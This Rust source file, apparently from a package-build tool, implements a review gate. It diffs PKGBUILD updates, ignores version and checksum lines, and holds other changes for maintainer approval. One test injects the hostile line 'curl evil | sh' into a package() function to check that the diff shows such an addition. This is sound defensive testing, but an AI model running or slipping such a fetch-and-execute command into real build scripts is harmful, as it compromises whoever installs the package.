//! The review gate (Chaotic-AUR's `CI_HUMAN_REVIEW`): an update whose PKGBUILD changes beyond
//! `pkgver`, `pkgrel` and checksums is enqueued with the change in `QueueEntry::review`, and
//! no builder claims it until a maintainer signs an `approve` for it
//! (`pacmesh queue approve ENTRY --key FILE`). `pacmesh queue why PKG` shows the change.
//!
//! [`significant_diff`] decides: both PKGBUILDs are compared with the routine lines removed
//! (`pkgver=`, `pkgrel=`, and the `md5sums`/`sha*sums`/`b2sums`/`cksums` arrays, per-arch
//! variants included, multi-line arrays up to their closing parenthesis); when what remains
//! differs, the answer is a line diff of the whole files (`-` old, `+` new, changed lines with
//! up to 3 lines of context), cut at [`pacmesh_protocol::MAX_REVIEW_BYTES`].

use pacmesh_protocol::MAX_REVIEW_BYTES;

/// Whether `line` starts a routine assignment (version or checksums); returns whether it is
/// an array that may continue on the next lines.
fn routine(line: &str) -> Option<bool> {
    let t = line.trim_start();
    let (name, rest) = t.split_once('=')?;
    let name = name.trim_end_matches('+');
    let base = name.split('_').next().unwrap_or(name);
    let is_sum = matches!(
        base,
        "md5sums"
            | "sha1sums"
            | "sha224sums"
            | "sha256sums"
            | "sha384sums"
            | "sha512sums"
            | "b2sums"
            | "cksums"
    );
    if name == "pkgver" || name == "pkgrel" || name == "epoch" {
        return Some(false);
    }
    if !is_sum {
        return None;
    }
    Some(rest.trim_start().starts_with('(') && !rest.contains(')'))
}

/// The lines of `text` that are not routine (see the [module docs](self)).
fn essential(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut in_array = false;
    for line in text.lines() {
        if in_array {
            if line.contains(')') {
                in_array = false;
            }
            continue;
        }
        match routine(line) {
            Some(open) => in_array = open,
            None => {
                if !line.trim().is_empty() {
                    out.push(line.trim_end());
                }
            }
        }
    }
    out
}

/// `None` when `new` differs from `old` only in routine lines; else the diff to review.
pub fn significant_diff(old: &str, new: &str) -> Option<String> {
    if essential(old) == essential(new) {
        return None;
    }
    Some(cap(line_diff(old, new)))
}

/// The diff for a PKGBUILD that had no previous version (everything is new).
pub fn new_file(text: &str) -> String {
    cap(text.lines().map(|l| format!("+{l}\n")).collect())
}

fn cap(mut s: String) -> String {
    const NOTE: &str =
        "\n[diff cut: longer than the review limit; read the full change in the source]\n";
    if s.len() > MAX_REVIEW_BYTES {
        let mut end = MAX_REVIEW_BYTES - NOTE.len();
        while !s.is_char_boundary(end) {
            end -= 1;
        }
        s.truncate(end);
        s.push_str(NOTE);
    }
    s
}

/// A line diff of `old` → `new` with 3 lines of context (LCS; files this large are rare, a
/// larger pair falls back to "all removed, all added").
pub fn line_diff(old: &str, new: &str) -> String {
    let a: Vec<&str> = old.lines().collect();
    let b: Vec<&str> = new.lines().collect();
    let (n, m) = (a.len(), b.len());
    // Edit script: (' ' | '-' | '+', line).
    let mut ops: Vec<(char, &str)> = Vec::new();
    if n.saturating_mul(m) > 4_000_000 {
        ops.extend(a.iter().map(|l| ('-', *l)));
        ops.extend(b.iter().map(|l| ('+', *l)));
    } else {
        let mut lcs = vec![0u32; (n + 1) * (m + 1)];
        let at = |i: usize, j: usize| i * (m + 1) + j;
        for i in (0..n).rev() {
            for j in (0..m).rev() {
                lcs[at(i, j)] = if a[i] == b[j] {
                    lcs[at(i + 1, j + 1)] + 1
                } else {
                    lcs[at(i + 1, j)].max(lcs[at(i, j + 1)])
                };
            }
        }
        let (mut i, mut j) = (0, 0);
        while i < n || j < m {
            if i < n && j < m && a[i] == b[j] {
                ops.push((' ', a[i]));
                i += 1;
                j += 1;
            } else if i < n && (j == m || lcs[at(i + 1, j)] >= lcs[at(i, j + 1)]) {
                ops.push(('-', a[i]));
                i += 1;
            } else {
                ops.push(('+', b[j]));
                j += 1;
            }
        }
    }
    // Keep changed lines and 3 lines of context around them.
    let changed: Vec<usize> = (0..ops.len()).filter(|&k| ops[k].0 != ' ').collect();
    let mut keep = vec![false; ops.len()];
    for &k in &changed {
        for x in k.saturating_sub(3)..(k + 4).min(ops.len()) {
            keep[x] = true;
        }
    }
    let mut out = String::new();
    let mut gap = false;
    for (k, (op, line)) in ops.iter().enumerate() {
        if !keep[k] {
            gap = true;
            continue;
        }
        if gap && !out.is_empty() {
            out.push_str("@@\n");
        }
        gap = false;
        out.push(*op);
        out.push_str(line);
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "pkgname=hello\npkgver=1.0\npkgrel=1\narch=(any)\ndepends=(glibc)\nsource=(\"https://x/hello-$pkgver.tar.gz\")\nsha256sums=('aaaa'\n            'bbbb')\nb2sums=('cc')\npackage() {\n  install -Dm644 x \"$pkgdir/x\"\n}\n";

    #[test]
    fn version_and_checksum_bumps_need_no_review() {
        let new = OLD
            .replace("pkgver=1.0", "pkgver=1.1")
            .replace("pkgrel=1", "pkgrel=3")
            .replace(
                "'aaaa'\n            'bbbb'",
                "'dddd'\n            'eeee'\n            'ffff'",
            )
            .replace("b2sums=('cc')", "b2sums=('zz')");
        assert_eq!(significant_diff(OLD, &new), None);
        let arch = OLD.replace("sha256sums=(", "sha256sums_x86_64=(");
        assert_eq!(
            significant_diff(OLD, &arch.replace("sha256sums_x86_64=(", "sha256sums=(")),
            None
        );
    }

    #[test]
    fn other_changes_are_shown() {
        let new = OLD
            .replace("depends=(glibc)", "depends=(glibc curl)")
            .replace("pkgver=1.0", "pkgver=1.1");
        let d = significant_diff(OLD, &new).expect("a dependency change needs review");
        assert!(
            d.contains("-depends=(glibc)\n+depends=(glibc curl)\n"),
            "{d}"
        );
        assert!(d.contains("-pkgver=1.0\n+pkgver=1.1\n"), "{d}");
        let evil = OLD.replace("  install -Dm644", "  curl evil | sh\n  install -Dm644");
        let d = significant_diff(OLD, &evil).unwrap();
        assert!(d.contains("+  curl evil | sh"), "{d}");
        assert!(!d.contains("-  curl"), "{d}");
    }

    #[test]
    fn long_diffs_are_cut() {
        let big: String = (0..20_000).map(|i| format!("echo {i}\n")).collect();
        let d = significant_diff("", &big).unwrap();
        assert!(d.len() <= MAX_REVIEW_BYTES);
        assert!(d.contains("[diff cut"));
        assert!(new_file(&big).len() <= MAX_REVIEW_BYTES);
    }
}
